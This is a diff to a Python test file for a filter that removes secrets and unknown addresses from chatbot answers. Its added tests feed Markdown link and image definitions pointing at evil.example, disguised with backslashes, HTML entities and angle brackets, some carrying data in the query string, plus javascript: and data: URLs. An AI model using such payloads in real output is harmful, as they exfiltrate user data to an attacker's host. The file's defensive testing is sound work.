@@ -8,6 +8,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from langchain_core.messages import AIMessageChunk
 from langchain_core.runnables import RunnableGenerator
+from markdown_it import MarkdownIt
 
 from flows.answer_filter import (
     LINK,
@@ -42,6 +43,7 @@ PARTS = (
         "[x](a(b",
     ),
     *("h", "ht", "https:", "://", "sk", "sk-", "ey", "-----BEGIN ", "-----END ", "Bearer ", "4", "41", "12 ", "5555-", "999", "w"),
+    *("[1]: //evil.example", "[1]: <https:\\//evil.example>", "]:", ":", "]"),
     *(FAMILY, "\ud83d", "\ude00", "\x00", "\u200d", "é", "word", "x", " ", "\n", ".", ")", "(", "@", "\\", "<", '"', "_"),
 )
 TEXT = st.lists(st.sampled_from(PARTS), max_size=12).map("".join)
@@ -58,6 +60,7 @@ def cut(draw, texts=TEXT):
 @given(cut())
 @example(["[a](b(", "c)) d"])
 @example(["4111 1111 1111 1111 ", "5"])
+@example(["[a]", ":/", "/b"])
 @example(["ta", "sk-managementandsomething"])
 def test_however_a_text_is_cut_what_is_shown_is_the_same(pieces):
     shown = ShownText(LINKS)
@@ -93,6 +96,7 @@ def test_what_is_shown_holds_no_secret_and_no_address_that_is_not_known(parts, b
 
 @settings(deadline=None)
 @given(TEXT)
+@example("[a]://b")
 def test_what_may_be_shown_may_be_shown_again(text):
     once = shown_text(text, LINKS)
     assert shown_text(once, LINKS) == once
@@ -140,7 +144,7 @@ def test_what_only_looks_like_it_stays(text: str):
         ("[x](javascript:alert(1)) y", "[x] y"),
         ("[x](//evil.example)(//evil.example) y", "[x] y"),
         ("[x](data:text/html,a", "[x] (data:text/html,a"),
-        ("[x]: https://evil.example", f"[x]: {LINK}"),
+        ("[x]: https://evil.example", f"[x] : {LINK}"),
         ("xhttps://evil.example", f"xhttps{LINK}"),
         ("WWW.evil.example", LINK),
         ("https://help.shop.example/x?y", "https://help.shop.example/x?y"),
@@ -155,6 +159,29 @@ def test_what_only_looks_like_it_stays(text: str):
 )
 def test_an_address_stays_where_its_host_or_all_of_it_is_known(text: str, shown: str):
     assert shown_text(text, LINKS) == shown
+
+
+@pytest.mark.parametrize("said", ["![status][1]\n\n[1]: {}", "See [status].\n\n> [Status]: {}", "[1]:\n{}\n\n![1]"])
+@pytest.mark.parametrize(
+    "address",
+    [
+        "//evil.example/p?d=4321",
+        "https:\\//evil.example/p?d=4321",
+        "https&colon;//evil.example/p?d=4321",
+        "https&#58;//evil.example/p?d=4321",
+        "</\\/evil.example/p?d=4321>",
+        "https://evil.example/p?d=4321",
+    ],
+)
+def test_no_definition_gives_an_address_to_a_link_or_an_image(said: str, address: str):
+    said = said.format(address)
+    markdown = MarkdownIt("commonmark")
+    assert "evil.example" in "".join(re.findall('(?:src|href)="[^"]*', markdown.render(said)))
+    assert not re.findall("src=|href=", markdown.render(shown_text(said, LINKS)))
+
+
+def test_a_model_reads_definitions_as_they_are():
+    assert without_secrets(f"[1]: //ok.example {KEY}") == f"[1]: //ok.example {SECRET}"
 
 
 @pytest.mark.parametrize(
@@ -180,6 +207,18 @@ def test_a_key_that_never_ends_hides_what_follows():
 def test_what_was_removed_makes_no_link_of_what_follows():
     assert shown_text(f"[a]{KEY}(javascript:x)") == f"[a]{SECRET}(javascript:x)"
     assert "](" not in shown_text(f"{KEY}(x) [b]{KEY}")
+
+
+@pytest.mark.parametrize("text", ["](" * 400_000, f"{KEY} " * 40_000])
+def test_a_megabyte_that_a_stranger_wrote_is_read_once(text: str):
+    """A search or a copy of the rest for each beginning would take longer than a test may."""
+    shown = without_secrets(f"{KEY} {text}")
+    assert shown == f"{SECRET} {text}".replace(KEY, SECRET)
+
+
+def test_a_link_whose_brackets_stand_too_deep_within_each_other_is_none():
+    assert shown_text(f"[a]({'(' * 20}{')' * 20}) b", LINKS) == "[a] b"
+    assert shown_text(f"[a]({'(' * 40}{')' * 40}) b", LINKS).startswith("[a] ((")
 
 
 def test_an_address_without_a_host_makes_nothing_known():
